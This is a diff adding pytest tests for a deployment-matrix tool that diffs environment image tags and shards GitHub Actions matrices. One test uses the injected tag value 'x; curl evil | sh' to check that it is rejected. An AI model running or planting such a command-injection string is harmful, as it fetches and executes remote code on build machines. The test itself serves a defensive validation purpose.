@@ -1,0 +1,166 @@
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from actions.deployments.matrix import MOST_ENTRIES, Per, difference, entries, fits, shards
+from actions.errors import InputError, InvalidTagError
+from actions.infra.layout import Layout, Snapshot
+from actions.infra.tag_path import TagPath
+
+A, B = "a" * 40, "b" * 40
+
+
+def env(name: str, content: Any) -> Snapshot:
+    text = content if isinstance(content, str) else json.dumps(content)
+    return Layout.default("envs").group({f"envs/{name}.json": text})[name]
+
+
+def test_an_environment_whose_tag_differs_is_deployed() -> None:
+    found = [
+        difference(env("dev", {"api": {"tag": B}}), env("dev", {"api": {"tag": A}})),
+        difference(env("prod", {"api": {"tag": A}}), env("prod", {"api": {"tag": A}})),
+    ]
+
+    assert entries(found, per=Per.ENV, only_changed=True) == [
+        {"env": "dev", "file": "envs/dev.json", "tags": {"api": B}, "previous": {"api": A}, "changed": ["api"]}
+    ]
+    assert [entry["env"] for entry in entries(found, per=Per.ENV, only_changed=False)] == ["dev", "prod"]
+
+
+def test_only_the_services_that_differ_are_deployed_one_by_one() -> None:
+    now = env("dev", {"api": {"tag": B}, "web": {"tag": A}})
+
+    found = difference(now, env("dev", {"api": {"tag": A}, "web": {"tag": A}}))
+
+    assert entries([found], per=Per.SERVICE, only_changed=True) == [
+        {"env": "dev", "service": "api", "file": "envs/dev.json", "tag": B, "previous": A}
+    ]
+
+
+def test_a_setting_that_changes_is_deployed_too() -> None:
+    """A new URL of one service concerns that service; a new region concerns them all."""
+    before = env("dev", {"region": "eu", "api": {"tag": A, "url": "x"}, "web": {"tag": A}})
+
+    assert difference(
+        env("dev", {"region": "eu", "api": {"tag": A, "url": "y"}, "web": {"tag": A}}), before
+    ).changed == ("api",)
+    assert difference(
+        env("dev", {"region": "us", "api": {"tag": A, "url": "x"}, "web": {"tag": A}}), before
+    ).changed == ("api", "web")
+
+
+def test_a_list_around_the_services_is_compared_too() -> None:
+    layout = Layout(patterns=("envs/{env}.yaml",), tag_path=TagPath.parse("images[name={service}].newTag"))
+    text = "images:\n- {name: api, newTag: x}\n- {name: web, newTag: x}\n- {name: none}\nresources: [a, 1]\n"
+    now, before = (layout.group({"envs/dev.yaml": t})["dev"] for t in (text.replace("[a,", "[b,"), text))
+
+    assert difference(now, before).changed == ("api", "web")
+    assert difference(
+        now, layout.group({"envs/dev.yaml": text.replace("[a,", "[b,").replace("newTag: x}", "newTag: y}", 1)})["dev"]
+    ).changed == ("api",)
+
+
+def test_formatting_is_no_change() -> None:
+    assert difference(env("dev", '{"api":{"tag":"x"}}'), env("dev", '{ "api": {"tag": "x"} }\n')).changed == ()
+
+
+def test_without_a_past_everything_is_new() -> None:
+    found = difference(env("dev", {"api": {"tag": A}, "web": {"tag": ""}}), None)
+
+    assert (found.changed, found.previous, found.removed) == (("api",), {}, ())
+
+
+def test_a_past_that_cannot_be_read_is_no_past() -> None:
+    assert difference(env("dev", {"api": {"tag": A}}), env("dev", "{")).changed == ("api",)
+
+
+def test_a_service_that_is_gone_concerns_its_environment() -> None:
+    found = difference(env("dev", {"api": {"tag": A}}), env("dev", {"api": {"tag": A}, "job": {"tag": A}}))
+
+    assert (found.changed, found.removed) == ((), ("job",))
+    assert len(entries([found], per=Per.ENV, only_changed=True)) == 1
+    assert entries([found], per=Per.SERVICE, only_changed=True) == []
+
+
+def test_an_environment_without_tags_has_nothing_to_deploy() -> None:
+    found = difference(env("dev", {"api": {"tag": ""}}), None)
+
+    assert entries([found], per=Per.ENV, only_changed=False) == []
+
+
+def test_a_matrix_can_be_narrowed_to_services() -> None:
+    found = difference(env("dev", {"api": {"tag": B}, "web": {"tag": B}}), None).only(["web"])
+
+    assert entries([found], per=Per.ENV, only_changed=True) == [
+        {"env": "dev", "file": "envs/dev.json", "tags": {"web": B}, "previous": {}, "changed": ["web"]}
+    ]
+
+
+def test_a_file_for_each_service_is_compared_as_a_whole() -> None:
+    layout = Layout(patterns=("{service}/{env}.yaml",), tag_path=TagPath.parse("image.tag"))
+    texts = {"api/dev.yaml": "image: {tag: x}", "web/dev.yaml": "image: {tag: x}"}
+    added = difference(layout.group(texts)["dev"], layout.group({"api/dev.yaml": texts["api/dev.yaml"]})["dev"])
+    assert added.changed == ("web",)
+    assert added.only(["web"]).files == {"web": "web/dev.yaml"}
+    now, before = (
+        layout.group({"api/dev.yaml": "image: {tag: x}", "web/dev.yaml": f"image: {{tag: x}}\nreplicas: {n}"})["dev"]
+        for n in (2, 1)
+    )
+
+    assert difference(now, before).changed == ("web",)
+
+
+def service_entry(env_name: str, service: str) -> dict[str, object]:
+    return {"env": env_name, "service": service, "file": "f", "tag": A, "previous": B}
+
+
+@given(st.dictionaries(st.from_regex("[a-z]{1,6}", fullmatch=True), st.integers(1, 400), min_size=1, max_size=6))
+def test_no_entry_is_lost_in_shards_and_every_shard_fits(sizes: dict[str, int]) -> None:
+    """What the inputs of the shards select is the matrix, every entry once."""
+    matrix = [service_entry(name, f"s{n}") for name, size in sizes.items() for n in range(size)]
+
+    parts = shards(matrix, services=())
+
+    selected = []
+    for part in parts:
+        envs = str(part["environments"]).split(",")
+        services = [name for name in str(part["service"]).split(",") if name]
+        mine = [e for e in matrix if e["env"] in envs and (not services or e["service"] in services)]
+        assert fits(mine)
+        selected += mine
+    assert sorted(map(str, selected)) == sorted(map(str, matrix))
+    assert [part["shard"] for part in parts] == list(range(1, len(parts) + 1))
+
+
+def test_a_matrix_of_long_entries_is_split_before_its_count_says_so() -> None:
+    """GitHub counts the bytes of all outputs of a job as UTF-16."""
+    entry = {"env": "x", "tags": {f"service-{n}": A for n in range(100)}}
+    matrix = [entry | {"env": f"env-{n}"} for n in range(100)]
+
+    assert not fits(matrix)
+    assert len(shards(matrix, services=["a", "b"])) > 1
+    assert shards(matrix, services=["a", "b"])[0]["service"] == "a,b"
+
+
+def test_an_environment_that_is_too_large_for_an_output_is_refused() -> None:
+    entry = {"env": "x", "tags": {f"service-{n}": A for n in range(9000)}}
+
+    with pytest.raises(InputError, match="environment 'x' alone is more"):
+        shards([entry], services=())
+
+
+def test_a_tag_that_is_none_does_not_reach_a_job() -> None:
+    with pytest.raises(InvalidTagError, match=r"in envs/dev\.json is not a tag"):
+        difference(env("dev", {"api": {"tag": "x; curl evil | sh"}}), None)
+
+
+def test_as_many_entries_as_github_takes_fit() -> None:
+    matrix = [service_entry("dev", f"s{n}") for n in range(MOST_ENTRIES)]
+
+    assert fits(matrix)
+    assert not fits([*matrix, service_entry("dev", "one-more")])
